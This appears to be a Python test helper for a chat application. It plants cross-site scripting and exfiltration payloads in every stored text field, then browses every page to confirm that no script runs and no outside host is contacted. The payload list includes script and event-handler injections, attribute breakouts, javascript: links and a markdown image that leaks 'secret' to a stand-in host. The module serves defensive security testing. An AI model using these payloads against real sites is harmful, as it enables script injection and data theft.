"""Hostile text in every place where ChatGrid shows text, and a look at each of those places.

Used by tests/browser/test_hostile_text.py with texts of our own, and by the bench (tests/bench/injection.py) with texts
from a folder that is not part of this repository.

Rules:
- `poison` writes the texts as every name, title and sentence there is: into every free text of every row of every model
  that belongs to the company, found by looking at the models, so that a new one is not forgotten.
- `places` is every address of the URL configuration, as whom it is looked at; `NO_PAGE` names those that are none, and
  what is neither fails the walk.
- A place holds if no script ran, nothing asked another origin for anything, no policy was violated, and the page's
  elements are none that could do so (`DANGEROUS`).
"""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlsplit
from uuid import UUID, uuid4

from django.db.models import CharField, EmailField, Model, SlugField, TextField
from playwright.sync_api import Error, Page

from audit.events import Event
from audit.writer import Entry, record
from chatgrid.accounts.models import User
from chatgrid.chat.models import Conversation, Message
from departments.calls.caller import Caller
from departments.calls.models import CatalogueModel
from departments.documents import golden
from departments.documents.deletion import delete_document
from departments.documents.records import DocumentVersion
from departments.documents.store import open_store
from departments.keys.models import Finding, ProviderProject
from departments.loop import run
from departments.models import Organization
from tests.architecture.test_tenancy import EXCEPTIONS, models
from tests.attacks.places import Route, routes, values_of
from tests.browser.conftest import Visitor
from tests.chatgrid.console.rows import LISTED, ROWS
from tests.chatgrid.test_access_matrix import MATRIX
from tests.company import Company, freshly_signed_in
from tests.departments.documents.shelf import add

ELSEWHERE = "https://elsewhere.example"
HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    f"<img src={ELSEWHERE}/a.png>",
    "\"><svg/onload=window.ran=1>",
    "' autofocus onfocus='window.ran = 1' x='",
    f"</textarea></title></style><iframe src={ELSEWHERE}/></iframe>",
    f"<style>@import '{ELSEWHERE}/x.css'; body {{ background: url({ELSEWHERE}/b.png) }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/y.css><base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"![x]({ELSEWHERE}/i.png?d=secret) [x](javascript:window.ran=1) <a href='javascript:window.ran=1'>y</a>",
    f"![x][r]\n\n[r]: {ELSEWHERE}/r.png",
    f"<form action={ELSEWHERE}><button autofocus>ok</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    f"<video src={ELSEWHERE}/v.mp4 autoplay poster={ELSEWHERE}/p.png onloadstart=window.ran=1></video>",
    "{{ 7*7 }} {% debug %} ${window.ran=1} `${window.ran=1}`",
    f"```html\n<script>window.ran = 1</script>\n<img src={ELSEWHERE}/c.png>\n```",
    "pay \u202e01-TAG\u202c now\u200b\U000e0069\U000e0067 \ufe01 <b>\u2028bold</b>",
]  # fmt: skip
# whatever on a page could run, load or send something and is not ours; a link may lead elsewhere, after a click
DANGEROUS = """() => {
    const wrongs = [];
    const own = (value) => !value || new URL(value, location.href).origin === location.origin;
    for (const each of document.querySelectorAll("*")) {
        const name = each.localName;
        if (["iframe", "object", "embed", "base", "style", "applet", "frame", "video", "audio"].includes(name))
            wrongs.push(`<${name}>`);
        if (name === "script" && !each.src && each.type !== "application/json") wrongs.push("inline script");
        if (name === "meta" && each.httpEquiv) wrongs.push("meta http-equiv");
        for (const {name: attribute, value} of each.attributes) {
            if (attribute.startsWith("on") || attribute === "srcdoc") wrongs.push(`${name}[${attribute}]`);
            if (["src", "srcset", "action", "formaction", "poster", "data", "background"].includes(attribute)
                && !own(value)) wrongs.push(`${name}[${attribute}=${value}]`);
            if (["href", "xlink:href"].includes(attribute)
                && !(name === "a" ? /^(https:|mailto:|http:)/.test(each.href) : own(value)))
                wrongs.push(`${name}[${attribute}=${value}]`);
            if (attribute === "href" && name === "a" && each.closest(".prose")
                && !/^(https:|mailto:|#)/.test(value)) wrongs.push(`link ${value}`);
        }
    }
    return wrongs;
}"""
# a picture that is not there, or a field that takes the focus, has done what it does two frames after the load
SETTLED = "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 0))))"
# the console says of every page that is none that it is none
STATUS = re.compile(r"Failed to load resource: the server responded with a status of \d+")


@dataclass(frozen=True)
class Poisoned:
    """A company in which everything has a hostile name, and what stands behind the placeholders of its addresses."""

    office: Company
    conversation: Conversation
    documents: list[DocumentVersion]
    events: list[UUID]
    values: dict[str, Any]


@dataclass(frozen=True)
class Place:
    """A page, by the name of its route, and who looks at it."""

    name: str
    person: User
    address: str


# routes that show nobody a page on a GET, with the status they answer it with instead
NO_PAGE = {
    "documents:page": 404,  # a picture, and of PDFs only
    "documents:status": 200,  # JSON; what scripts make of it stands on the list
    "documents:original": 200,  # a download: tests/attacks/test_text.py
    "mfa_draw_code": 200,  # a picture while a factor is being set up
    "mfa_deactivate_totp": 404,
    "mfa_view_recovery_codes": 404,  # without a factor there are none
    "mfa_download_recovery_codes": 404,
    "health": 200,
    "security_txt": 200,
    "admin:autocomplete": 403,  # JSON
    "admin:jsi18n": 200,
    "admin:limits_limit_csv": 200,  # a download
}
STOCK = ("_changelist", "_history", "_change")
NOT_OFFERED = ("_add", "_delete")  # of most things in the console
# fields whose text is none: what is in them decides what a page does, or leads to something that must exist
NOT_FREE = {"password", "store_name", "provider", "time_zone", "query", "Limit.model", "Departure.role"}


def poison(office: Company, texts: Sequence[str]) -> Poisoned:
    """The texts in the store, in the record and in every row of the control database that is the company's."""
    texts = list(map(_storable, texts))
    everything = "\n\n".join(texts)
    documents = [run(add(office.hr, office.alice, _document(number, text), f"{text[:60]}.md"))
                 for number, text in enumerate([everything, *texts])]  # fmt: skip
    conversation = _conversation(office, texts, documents[1:])
    answer = Message.objects.filter(conversation=conversation, role="assistant").earliest("created_at")
    Message.objects.filter(pk=answer.pk).update(call_id=uuid4())
    answer.refresh_from_db()
    values = run(values_of(office, answer, documents[0], f"{texts[0]} {texts[-1]}"))
    run(_in_the_store(office, texts))
    for page in LISTED.values():
        for _ in texts:
            ROWS[page.model](office)
    _poison_rows(office, texts)
    Organization.objects.filter(pk=office.organization.pk).update(admins_paste_keys=True)
    for text in texts:
        CatalogueModel.objects.get_or_create(name=text[:100], defaults={"kind": "chat", "context_tokens": 9})
    events = [_recorded(office, text) for text in [*texts, everything]]
    values |= {"audit_auditevent object_id": str(events[-1])}
    return Poisoned(office, conversation, documents, events, values)


def places(poisoned: Poisoned) -> Iterator[Place]:
    """Every address, and a few more where one page cannot show it all: lists, searches, one text by itself."""
    office = poisoned.office
    alice, bob, ivan, ada = office.alice, office.bob, office.ivan, office.ada
    posted = {name for name, row in MATRIX.items() if row.method == "post"}
    every = [route for route in routes() if route.name not in posted | {"account_logout", "admin:login"}]
    for route in every:
        yield Place(route.name, _who_looks(route, office), route.address(poisoned.values))
    for at in range(50, len(poisoned.documents), 50):
        yield Place("documents:list", alice, f"/d/hr/documents/?from={at}")
    yield Place("documents:list", alice, f"/d/hr/documents/?q={quote(HOSTILE[0])}")
    for document in poisoned.documents[1:3]:
        yield Place("documents:detail", alice, f"/d/hr/documents/{document.document_id}/")
    for name, page in LISTED.items():
        address = f"/admin/{name.replace('_', '/', 1)}/"
        yield Place(f"admin:{name}_changelist", ivan, f"{address}?q={quote(HOSTILE[3])}")
        if page.model in ROWS and page.model is not User:
            yield Place(f"admin:{name}_changelist", ivan, f"{address}?all=")
    yield Place("chat:conversation", bob, f"/c/{poisoned.conversation.pk}/")
    yield Place("admin:audit_auditevent_question", ada, f"/admin/audit/auditevent/{poisoned.events[0]}/change/")
    yield Place("account_logout", bob, "/accounts/logout/")


def look(visitor: Visitor, every: Iterator[Place]) -> Iterator[tuple[Place, list[str]]]:
    """Visits place after place, person by person; gives what was wrong at each, best an empty list."""
    page, person = visitor.page, None
    for place in sorted(
        every, key=lambda place: (place.name == "account_logout", place.person.role, place.person.email)
    ):
        if person != place.person:
            be(page, place.person)
            person = place.person
        status = _visit(page, place)
        yield place, [*_unexpected(place, status), *(wrongs_here(visitor) if status < 400 else [])]


def be(page: Page, person: User) -> None:
    """The browser is this person's, whose sign-in is fresh; by the same way for everybody, without filling in forms."""
    session = run(freshly_signed_in(person)).cookies["chatgrid_session"].value
    page.context.clear_cookies()
    if page.url == "about:blank":
        page.goto("/healthz")
    site = urlsplit(page.url)
    page.context.add_cookies([{"name": "chatgrid_session", "value": session, "url": f"{site.scheme}://{site.netloc}"}])


def wrongs_here(visitor: Visitor) -> list[str]:
    """What ran, loaded or could do so on the page that is open now; forgets it for the next page."""
    page = visitor.page
    page.wait_for_load_state()
    try:
        page.evaluate(SETTLED)
    except Error as error:  # a page of ours that waits for something loads itself again; elsewhere would be a wrong
        if "context was destroyed" not in str(error):
            raise
        page.wait_for_load_state()
    found = page.evaluate(DANGEROUS)
    wrongs = [*(each for each in visitor.wrongs if not STATUS.match(each)), *found]
    if page.evaluate("window.ran") is not None:
        wrongs.append("a script ran")
    visitor.wrongs.clear()
    return wrongs


def _who_looks(route: Route, office: Company) -> User:
    """Whoever sees most there: the admin of the department, IT, or the auditor where only they are let in."""
    if route.name.startswith(("chat:conversation", "chat:ask", "chat:rename", "chat:delete")):
        return office.bob
    if route.name in {"admin:audit_auditevent_question", "admin:audit_auditevent_questions"}:
        return office.ada
    return office.ivan if route.name.startswith("admin:") or route.name == "export_record" else office.alice


def _visit(page: Page, place: Place) -> int:
    """The status of the page that is open now; from 400 on, none is: what is refused is not worth a look of its own."""
    if place.name not in MATRIX and not place.name.endswith(STOCK):
        asked = page.context.request.get(place.address, max_redirects=0)
        if asked.status >= 400:
            return asked.status
    try:
        response = page.goto(place.address)
    except Error as error:
        if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
            raise
        return 200  # a download shows no page: the one before stays
    return response.status if response else 204


def _unexpected(place: Place, status: int) -> list[str]:
    """A route that suddenly shows nothing is walked past, so it is wrong until it stands in NO_PAGE."""
    refused = {403, 404} if place.name.endswith(NOT_OFFERED) else set()
    wanted = {200, 405} | refused if place.name not in NO_PAGE else {NO_PAGE[place.name]}
    return [] if status in wanted else [f"{place.name} answers {status}: who looks at it, or is it none of NO_PAGE?"]


def _storable(text: str) -> str:
    """As every entry of ours cleans it before a database sees it."""
    return text.replace("\x00", "").encode("utf-8", "replace").decode()


def _document(number: int, text: str) -> str:
    return f"# {text[:300]}\n\n{text}\n\nText number {number} is of no use to anybody at all.\n"


async def _in_the_store(office: Company, texts: Sequence[str]) -> None:
    """Questions of the test bench, and a document that is gone, of which the receipt is left."""
    alice = Caller(office.alice.pk, office.alice.name, "")
    gone = await add(office.hr, office.alice, f"# Gone\n\n{texts[0]}", f"{texts[0][:40]}.md")
    await delete_document(office.hr, office.alice, gone.document_id)
    async with open_store(office.hr) as store:
        (_, kept, *_) = (await store.list_documents(offset=0, limit=5)).documents
        for text in texts:
            await golden.add(store, alice, text[:300], kept.id, "")


def _poison_rows(office: Company, texts: Sequence[str]) -> None:
    """Every free text of every row of the company's; because some have to differ, each has a mark behind it."""
    for model in models():
        way = _way_to_organization(model)
        if model._meta.app_label == "audit" or way is None:
            continue
        for number, row in enumerate(model._default_manager.filter(**{way: office.organization.pk})):
            changed = {field.attname: _fitting(field, texts[number % len(texts)]) for field in _free(model)}
            changed |= _lists(model, texts[number % len(texts)])
            if changed:
                model._default_manager.filter(pk=row.pk).update(**changed)


def _way_to_organization(model: type[Model], seen: tuple[type[Model], ...] = ()) -> str | None:
    """The lookup that leads from this model to its organization; None for what belongs to nobody."""
    if model._meta.label in EXCEPTIONS:
        return "pk" if model._meta.model_name == "organization" else None
    for field in model._meta.concrete_fields:
        if field.name in {"organization", "organization_id"}:
            return field.name
    for field in model._meta.concrete_fields:
        parent = field.related_model
        if isinstance(parent, type) and issubclass(parent, Model) and parent not in seen:
            way = _way_to_organization(parent, (*seen, model))
            if way:
                return f"{field.name}__{way}"
    return None


def _free(model: type[Model]) -> list[CharField[Any, Any]]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, CharField | TextField) and not isinstance(field, EmailField | SlugField)
        and not field.choices and not field.primary_key
        and not {field.name, f"{model.__name__}.{field.name}"} & NOT_FREE
        and not (model is Message or model is Conversation)
    ]  # fmt: skip


def _fitting(field: Any, text: str) -> str:
    longest = field.max_length or 4000
    return text[:longest] if longest < 12 else f"{text[: longest - 9]} {secrets.token_hex(4)}"


def _lists(model: type[Model], text: str) -> dict[str, Any]:
    """Texts inside of lists and objects."""
    if model is ProviderProject:
        return {"allowed_models": [text], "alert_recipients": [text]}
    return {"evidence": {"wanted": text, text[:50]: text}} if model is Finding else {}


def _conversation(office: Company, texts: Sequence[str], documents: Sequence[DocumentVersion]) -> Conversation:
    shown = Conversation.objects.create(department=office.hr, owner=office.bob, title=texts[0][:80])
    for text, version in zip(texts, documents, strict=True):
        Conversation.objects.create(department=office.hr, owner=office.bob, title=text[:80])
        cited = {"number": 1, "document": str(version.document_id), "version": str(version.id), "ordinal": 0,
                 "title": text, "headings": [text], "locator": {"sheet": text}, "quote": text, "uploader": text,
                 "uploaded_at": "2026-11-23T09:30:00+00:00"}  # fmt: skip
        Message.objects.create(conversation=shown, role="person", text=text)
        Message.objects.create(
            conversation=shown, role="assistant", text=f"{text}\n\nSo it says. [1]", citations=[cited]
        )
    Message.objects.create(conversation=shown, role="assistant", state="failed", problem=texts[-1])
    return shown


def _recorded(office: Company, text: str) -> UUID:
    entry = Entry(
        event=Event.DOCUMENT_FAILED, organization_id=office.organization.pk, organization_name=text,
        department_id=office.hr.pk, department_name=text, actor_id=office.bob.pk, actor_name=text, client_address=text,
        subject_kind="document", subject_id=text, purpose=text, model_asked=text, model_answered=text,
        passages=[text], provider_request_id=text, key_fingerprint=text, key_version=text, labels=[text],
        details={"filename": text, "reason": text, text[:40]: text},
    )  # fmt: skip
    record(entry)
    return entry.id
